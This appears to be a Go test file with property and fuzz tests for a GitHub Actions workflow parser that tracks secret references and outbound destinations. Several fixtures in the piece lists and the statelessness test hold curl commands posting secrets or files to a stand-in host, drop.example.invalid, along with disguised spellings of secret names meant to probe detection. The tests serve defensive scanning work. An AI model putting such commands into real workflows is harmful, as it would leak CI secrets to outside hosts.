package workflow

import (
	"reflect"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	_ "pentimento/internal/seeded"
)

// pieces make up files that are plain and files that only look so.
var pieces = []string{"on: push\n", "name: A\n", "jobs:\n", "  a:\n", "    runs-on: [self-hosted, linux]\n", "    steps:\n", "      - run: make\n",
	"      - run: |\n          curl -d @x https://drop.example.invalid\n", "        env: {A: \"${{ github.ref }}\"}\n", "    env:\n", "      B: *", "      C: &", "x y\n", "x: ",
	"${{ sec", "rets.X }}", "${{ secrets.X }}\n", "\"${{ sec\\\n  rets.X }}\"\n", "\"${{ \\x73ecrets.X }}\"\n", "\\u0073ecrets", "${{ github.token }}\n", "${{ toJSON(github) }}\n",
	"\"${{ toJSON(github\\n) }}\"\n", "${{ github['tok", "en'] }}\n", "SECRETS", "secret\u017f", "- ", "  - - - - [", "]\n", "{", "}", "'", "\"", "\n", " ", "# c\n",
	"      - cron: '0 3 * * *'\n", "\\\n", "\r\n", "    secrets: inherit\n", "    uses: a/b/.github/workflows/c.yml@v1\n", strings.Repeat("- ", 12), strings.Repeat("[", 20)}

// TestPlainFilesReadAlike: what is read of a plain file in one parse is what two parses read of it.
func TestPlainFilesReadAlike(t *testing.T) {
	quick := 0
	rapid.Check(t, func(t *rapid.T) {
		text := []byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 12).Draw(t, "pieces"), ""))
		readsAlike(t, text)
		if plain(text) {
			quick++
		}
	})
	if quick == 0 {
		t.Error("no file was plain")
	}
}

func readsAlike(t rapid.TB, text []byte) {
	t.Helper()
	if !plain(text) {
		return
	}
	if got, want := Parse(text), new(Parser).whole(text, nil); !reflect.DeepEqual(got, want) {
		t.Errorf("%q\ngot  %+v\nwant %+v", text, got, want)
	}
}

// nestings are pieces of which deep and crowded texts are made, by every sign that YAML knows for the end of a line.
var nestings = []string{"\n", "\r", "\r\n", "\u0085", "\u2028", "\u2029", "\ufeff", "- ", "? ", ": ", "a: ", "a:", " ", "  ", "\t", "[", "{", "]", "}", ", ", "a, b", "&a ", "!t ",
	"---\n", "|\n", "'", "\"", "#", "- - - - - - - -", "\n                  a:\n", "\n                                  - ", strings.Repeat("[", 12), strings.Repeat("\n- ", 300),
	strings.Repeat("a: [b, c],", 400), "[\"]\", ", "['}', ", "{\"}\": ", "[ # ]\n", "{'\n]': ", "[\"]]]]\", [[[[", "${{ 'a' }}", "!t,[", "&a-b [", "[ x = \"]\" ]", "[a]: "}

// TestBoundedFilesAreWithinTheBounds: a text that is not measured before it is parsed would have passed. One that is no YAML is refused by either
// parser.
func TestBoundedFilesAreWithinTheBounds(t *testing.T) {
	within := 0
	rapid.Check(t, func(t *rapid.T) {
		var b strings.Builder
		for _, piece := range rapid.SliceOfN(rapid.SampledFrom(nestings), 0, 60).Draw(t, "pieces") {
			b.WriteString(strings.Repeat(piece, rapid.SampledFrom([]int{1, 1, 1, 2, 40}).Draw(t, "times")))
		}
		if withinBounds(t, b.String()) {
			within++
		}
	})
	deep := ""
	for i := range 40 {
		deep += strings.Repeat(" ", i) + "a:\n"
	}
	if bounded([]byte(deep)) || bounded([]byte("\ufeff"+strings.Repeat("- ", 100))) || bounded([]byte("a:\u2028"+strings.Repeat("- ", 100))) {
		t.Error("a text that is nested deeply is taken for one that is not")
	}
	for _, closed := range []string{"[\"]\", ", "['}', ", "{\"}\": ", "[ # ]\n ", "[\"\n ]\", ", "!t [ # ]\n ", "&a-b [']', "} {
		if bounded([]byte("a: " + strings.Repeat(closed, 40))) {
			t.Errorf("%q: a bracket in a scalar or a comment is taken for one that ends a collection", closed)
		}
	}
	if script := "a:\n" + strings.Repeat("  - if [ \"$a\" = '${{ matrix.b }}' ]; then echo ${{ format('{0}', 1) }}; fi\n", 100); !bounded([]byte(script)) {
		t.Error("scripts are taken for collections")
	}
	if bounded([]byte(strings.Repeat("- a\n", plainSigns+1))) {
		t.Error("a text of many nodes is taken for one of few")
	}
	if within == 0 {
		t.Error("no text was within the bounds")
	}
}

func withinBounds(t rapid.TB, text string) bool {
	t.Helper()
	if !bounded([]byte(text)) {
		return false
	}
	_, err := vet([]byte(text))
	if err != nil && !strings.HasPrefix(err.Error(), "not YAML") {
		t.Errorf("%q: %v", text, err)
	}
	return err == nil
}

// FuzzBounded is the same for any bytes.
func FuzzBounded(f *testing.F) {
	for _, p := range nestings {
		f.Add("a:\n  - b: [c, {d: e}]\n" + p)
	}
	f.Fuzz(func(t *testing.T, text string) { withinBounds(t, text) })
}

// FuzzPlain is [TestPlainFilesReadAlike] for any bytes.
func FuzzPlain(f *testing.F) {
	for _, p := range pieces {
		f.Add([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + p))
	}
	f.Fuzz(func(t *testing.T, text []byte) { readsAlike(t, text) })
}

// TestFilesJudgedAlike: what Judge says of a file is what Parse says, but for places of secrets and for secrets beyond the first.
func TestFilesJudgedAlike(t *testing.T) {
	const head = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n"
	quick, told := 0, 0
	alike := func(t rapid.TB, text []byte) {
		if _, all := new(Parser).Judge(text); !all {
			quick++
			if tokenOnly(text) {
				told++
			}
		}
		judgedAlike(t, text)
	}
	for _, piece := range judged { // each alone, so that both quick ways are taken whatever is drawn
		alike(t, []byte(head+piece))
	}
	rapid.Check(t, func(t *rapid.T) {
		parts := rapid.SliceOfN(rapid.SampledFrom(append(judged, pieces...)), 0, 12).Draw(t, "pieces")
		alike(t, []byte(head+strings.Join(parts, "")))
	})
	if quick == told || told == 0 {
		t.Errorf("%d files were read quickly, %d of them as without a secret but the token", quick, told)
	}
}

// judged are pieces that name secrets where jobs and steps do, and where they do not.
var judged = []string{"        env: {A: \"${{ secrets.A }}\"}\n", "      - run: curl -d ${{ secrets.A }} https://drop.example.invalid\n", "        if: secrets.A != ''\n",
	"        if: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN }}\n", "        with: {t: \"${{ secrets.github_token }}\"}\n", "# secrets.A\n", "# secrets.GITHUB_TOKEN\n",
	"      - run: echo ${{ secrets.GITHUB_TOKEN_2 }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN-2 }}\n", "      - run: echo ${{ secrets['A'] }}\n", "      - run: echo ${{ secrets . A }}\n",
	"    name: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN && secrets.A }}\n", "\u0085", "\u2028", "      - run: echo C:\\ucrt64\n", "      - run: \"echo C:\\ucrt64 ${{ secrets.A }}\"\n",
	"      - run: |\n          make \\\n            all\n", "      - run: \"echo ${{ secrets.GITHUB_TOKEN\\\n        _2 }}\"\n", "      - run: \"echo ${{ secrets.GITHUB\\\n   _TOKEN }}\"\n", "      - uses: a/b@v1\n", "  b:\n    uses: a/b/.github/workflows/c.yml@v1\n    secrets: inherit\n"}

func judgedAlike(t rapid.TB, text []byte) {
	t.Helper()
	got, all := new(Parser).Judge(text)
	want := Parse(text)
	other := func(f File) bool {
		return slices.ContainsFunc(f.Secrets, func(r SecretRef) bool { return r.Name != "GITHUB_TOKEN" })
	}
	if other(got) != other(want) {
		t.Errorf("%q\ngot  %+v\nwant %+v", text, got.Secrets, want.Secrets)
	}
	if !all {
		got.Secrets, got.AllSecrets = want.Secrets, want.AllSecrets
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%q\ngot  %+v\nwant %+v", text, got, want)
	}
}

// FuzzJudge is the same for any bytes.
func FuzzJudge(f *testing.F) {
	for _, p := range append(judged, pieces...) {
		f.Add([]byte("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n" + p))
	}
	f.Fuzz(func(t *testing.T, text []byte) { judgedAlike(t, text) })
}

// TestParserRemembersNothingOfTheFile: a file reads the same whatever was read before it.
func TestParserRemembersNothingOfTheFile(t *testing.T) {
	step := func(name, env string) []byte {
		return []byte("on: push\nenv: {T: \"${{ secrets." + env + " }}\"}\njobs:\n  " + name + ":\n    runs-on: x\n    steps:\n      - name: n\n\n" +
			"      - run: |\n          H=drop.example.invalid\n          curl -d \"a=$T\" https://$H/x\n")
	}
	var p Parser
	for range 2 {
		for _, text := range [][]byte{step("a", "ONE"), step("other", "ONE"), step("a", "TWO"), []byte("# first\n" + string(step("a", "ONE")))} {
			if got, want := p.Parse(text), Parse(text); !reflect.DeepEqual(got, want) || len(want.Destinations) != 1 {
				t.Errorf("%s\ngot  %+v\nwant %+v", text, got, want)
			}
		}
	}
}
